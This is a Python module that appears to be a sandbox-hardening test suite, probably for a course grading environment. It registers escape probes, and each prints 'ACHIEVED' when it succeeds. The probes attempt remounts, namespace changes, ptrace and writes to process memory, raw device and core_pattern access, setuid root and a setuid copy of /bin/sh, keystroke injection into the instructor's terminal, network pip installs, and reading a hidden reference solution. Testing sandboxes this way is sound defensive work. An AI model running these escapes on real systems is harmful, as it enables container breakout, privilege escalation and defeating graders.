"""Out of the sandbox: system calls, /proc, mounts, and modules that are hidden."""

from __future__ import annotations

from hostile.attack import code

FAMILY = "sandbox escapes"
SYSCALL = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def tried(name, result):
    print(name, "error", os.strerror(ctypes.get_errno())) if result < 0 else print("ACHIEVED:", name)
"""
STOCK = "there is no sandbox to leave"


@code("mount", FAMILY, "mounts, remounts writable, unmounts what hides the packages, pivots the root", stock=STOCK)
def _():
    return SYSCALL + """
for path in (b"/", b"/usr", b"/stage", b"/proc"):
    tried(f"remount {path}", libc.mount(None, path, None, 32 | 4096, None))
tried("tmpfs", libc.mount(b"tmpfs", b"/tmp", b"tmpfs", 0, None))
tried("proc", libc.mount(b"proc", b"/tmp", b"proc", 0, None))
for line in open("/proc/self/mountinfo"):
    path = line.split()[4]
    if "peft" in path or "site-packages" in path:
        tried(f"umount {path}", libc.umount2(path.encode(), 2))
tried("chroot", libc.chroot(b"/proc/1/root"))
tried("pivot_root", libc.syscall(155, b"/tmp", b"/tmp"))
tried("open_tree", libc.syscall(428, -100, b"/", 1))
tried("fsopen", libc.syscall(430, b"tmpfs", 0))
"""


@code("namespaces", FAMILY, "new user, mount and network namespaces, for another try at privileges", stock=STOCK)
def _():
    return SYSCALL + """
for name, flag in (("user", 0x10000000), ("mount", 0x20000), ("net", 0x40000000), ("pid", 0x20000000), ("user and mount", 0x10020000)):
    tried(f"unshare {name}", libc.unshare(flag))
for name in ("user", "mnt", "net", "pid"):
    try:
        tried(f"setns {name}", libc.setns(os.open(f"/proc/1/ns/{name}", os.O_RDONLY), 0))
    except OSError as error:
        print(error)
try:
    import subprocess
    done = subprocess.run(["unshare", "-Ur", "id", "-u"], capture_output=True, text=True)
    print("ACHIEVED: unshare -Ur") if done.stdout.strip() == "0" else print(done.stderr)
except OSError as error:
    print(error)
"""


@code("ptrace", FAMILY,
      "traces process 1 and its parent, reads and writes their memory, takes their descriptors", stock=STOCK)
def _():
    return SYSCALL + """
for number in {1, os.getppid()}:
    tried(f"ptrace {number}", libc.ptrace(16, number, 0, 0))
    try:
        with open(f"/proc/{number}/mem", "r+b", buffering=0) as memory:
            memory.seek(int(open(f"/proc/{number}/maps").readline().split("-")[0], 16))
            memory.write(memory.read(1))
            print("ACHIEVED: wrote the memory of", number)
    except (OSError, ValueError) as error:
        print(error)
    descriptor = libc.syscall(434, number, 0)
    tried(f"pidfd_getfd {number}", libc.syscall(438, descriptor, 0, 0))
"""


@code("proc-root", FAMILY,
      "/proc/1/root, /proc/1/cwd, open descriptors that lead outside, .. beyond the root", stock=STOCK)
def _():
    return """
import os
for path in ("/proc/1/root/class", "/proc/1/cwd/class", "/proc/1/root/var/lib", "/proc/1/root/home", "/class", "/../../class",
             "/proc/self/root/../class"):
    if os.path.isdir(path) and os.listdir(path):
        print("ACHIEVED: sees", path, os.listdir(path)[:3])
for number in os.listdir("/proc"):
    if number.isdigit():
        try:
            for fd in os.listdir(f"/proc/{number}/fd"):
                where = os.readlink(f"/proc/{number}/fd/{fd}")
                if where.startswith("/") and not where.startswith(("/dev", "/scratch", "/exchange", "/stage", "/proc", "/tmp/", "/usr", "/memfd")) \\
                        and ".venv" not in where and "site-packages" not in where and "/lib/python" not in where:
                    print("ACHIEVED: a descriptor of", where)
        except OSError as error:
            pass
"""


@code("devices", FAMILY,
      "/dev/mem, /dev/kmsg, disks, loop devices, core_pattern, sysrq, release_agent, firmware", stock=STOCK)
def _():
    return """
import os, stat
for path in ("/dev/mem", "/dev/kmsg", "/dev/vda", "/dev/sda", "/dev/loop0", "/dev/kvm", "/dev/fuse", "/proc/kcore", "/dev/nvidia0"):
    try:
        os.close(os.open(path, os.O_RDWR))
        print("ACHIEVED: opened", path)
    except OSError as error:
        print(error)
for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/sys/fs/cgroup/release_agent", "/proc/sys/vm/overcommit_memory",
             "/sys/kernel/uevent_helper", "/proc/sys/fs/binfmt_misc/register"):
    try:
        with open(path, "r+") as file:
            text = file.read(1)
        print("ACHIEVED: may write", path)
    except OSError as error:
        print(error)
for major, minor in ((1, 1), (8, 0), (254, 0)):
    for folder in (".", "/exchange"):
        try:
            os.mknod(f"{folder}/device", stat.S_IFBLK | 0o666, os.makedev(major, minor))
            os.close(os.open(f"{folder}/device", os.O_RDWR))
            print("ACHIEVED: a device of its own")
        except OSError as error:
            print(error)
"""


@code("keys-and-kernel", FAMILY,
      "keyctl, bpf, io_uring, userfaultfd, perf, modules, personality, 32-bit calls", stock=STOCK)
def _():
    return SYSCALL + """
for name, number, arguments in (("keyctl", 250, (0, -3, 1)), ("add_key", 248, (b"user", b"x", b"y", 1, -3)), ("bpf", 321, (0, 0, 0)),
        ("io_uring_setup", 425, (1, ctypes.create_string_buffer(200))), ("userfaultfd", 323, (0,)), ("perf_event_open", 298, (0, 0, -1, -1, 0)),
        ("init_module", 175, (0, 0, b"")), ("kexec_load", 246, (0, 0, 0, 0)), ("open_by_handle_at", 304, (-100, 0, 0)),
        ("memfd_secret", 447, (0,)), ("process_vm_readv", 310, (1, 0, 0, 0, 0, 0)), ("reboot", 169, (0, 0, 0, 0)), ("swapon", 167, (b"x", 0))):
    tried(name, libc.syscall(number, *arguments))
"""


@code("setuid", FAMILY,
      "sudo, su, mount, pkexec; a setuid file of its own in the exchange folder; setuid(0), capabilities", stock=STOCK)
def _():
    return """
import os, shutil, stat, subprocess
for call in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.setgroups([0]), lambda: os.chown("/exchange", 0, 0)):
    try:
        call()
        print("ACHIEVED: privileges") if os.geteuid() == 0 else None
    except OSError as error:
        print(error)
for words in (["sudo", "-n", "id", "-u"], ["su", "-c", "id -u"], ["pkexec", "id", "-u"]):
    try:
        done = subprocess.run(words, capture_output=True, text=True, stdin=subprocess.DEVNULL, timeout=5)
        print("ACHIEVED:", words) if done.stdout.strip() == "0" else print(done.stderr.strip())
    except (OSError, subprocess.TimeoutExpired) as error:
        print(error)
shutil.copy("/bin/sh", "/exchange/sh")
os.chmod("/exchange/sh", 0o6777)
caps = [line for line in open("/proc/self/status") if line.startswith("CapEff")][0]
print("ACHIEVED:", caps) if int(caps.split()[1], 16) else print(caps)
"""


@code("hidden-importlib", FAMILY,
      "imports hidden packages through importlib, zipimport, a copied spec, another path to the same folder")
def _():
    return """
import importlib.machinery, importlib.util, glob, os, sys, zipimport
for name in ("pefttools.lora", "peft", "peft.tuners.lora.layer"):
    try:
        __import__(name)
        if name == "pefttools.lora":
            lora_forward = sys.modules[name].lora_forward
        print("ACHIEVED: imported", name)
    except Exception as error:
        print(type(error).__name__, error)
version = f"python{sys.version_info[0]}.{sys.version_info[1]}"
sites = {f"{root}/lib/{version}/site-packages" for root in (sys.prefix, sys.base_prefix, "/usr", "/usr/local")}
sites |= {*sys.path, "/usr/lib/python3/dist-packages", "/class", "/stage", "/", "/proc/1/root/stage", "/proc/1/root" + sys.prefix}
for site in sites:
    for path in glob.glob(site + "/peft/tuners/lora/*.py") + glob.glob(site + "/pefttools/*.py*") + glob.glob(site + "/*.whl") \
            + glob.glob(site + "/pefttools/__pycache__/lora*") + glob.glob(site + "/peft/**/*.pyc", recursive=True):
        try:
            text = open(path, errors="replace").read()
        except OSError as error:
            print(error)
            continue
        if "def lora_forward" in text or "class LoraLayer" in text:
            print("ACHIEVED: read", path)
            exec(text[text.index("def lora_forward"):].split("\\n\\n\\n")[0], globals()) if "def lora_forward" in text else None
"""


@code("pip-install", FAMILY, "pip install peft, from the network, from pip's cache, from a wheel in ensurepip")
def _():
    return """
import subprocess, sys
for words in (["install", "--target", "here", "--no-deps", "peft"], ["download", "--no-deps", "peft"]):
    done = subprocess.run([sys.executable, "-m", "pip", "--disable-pip-version-check", "--retries", "0", "--timeout", "2",
                           *words], capture_output=True, text=True, stdin=subprocess.DEVNULL)
    print("ACHIEVED: pip", words[0]) if done.returncode == 0 else print(done.stderr[-300:])
"""


@code("editable-finder", FAMILY,
      "the checkout behind an editable installation: its .pth, its finder, its path in the metadata")
def _():
    return """
import glob, importlib, os, re, site, sys
places = set()
for folder in [*site.getsitepackages(), site.getusersitepackages(), *sys.path]:
    for path in glob.glob(folder + "/*pefttools*") + glob.glob(folder + "/*.pth") + glob.glob(folder + "/*.egg-link"):
        try:
            text = open(path).read() if os.path.isfile(path) else open(path + "/direct_url.json").read()
        except OSError:
            continue
        places |= set(re.findall(r"(/[\\w./-]+)", text))
for place in places:
    for path in (place, os.path.join(place, "pefttools"), os.path.dirname(place)):
        if os.path.isfile(path + "/lora.py") or os.path.isfile(path + "/pefttools/lora.py"):
            sys.path.insert(0, path)
            print("ACHIEVED: sees the checkout", path)
for name in [n for n in sys.modules if n.startswith("pefttools")]:
    del sys.modules[name]
try:
    from pefttools.lora import lora_forward
except ImportError as error:
    print(error)
"""


@code("terminal", FAMILY, "types into the instructor's terminal (TIOCSTI), and takes it over", stock=STOCK)
def _():
    return """
import fcntl, os, termios
for path in ("/dev/tty", "/dev/console", "/dev/pts/0", "/dev/pts/1"):
    try:
        terminal = os.open(path, os.O_RDWR | os.O_NOCTTY)
        fcntl.ioctl(terminal, termios.TIOCSTI, b"#")
        print("ACHIEVED: typed into", path)
    except OSError as error:
        print(error)
for descriptor in (0, 1, 2):
    try:
        fcntl.ioctl(descriptor, termios.TIOCSTI, b"#")
        print("ACHIEVED: typed")
    except OSError as error:
        print(error)
"""
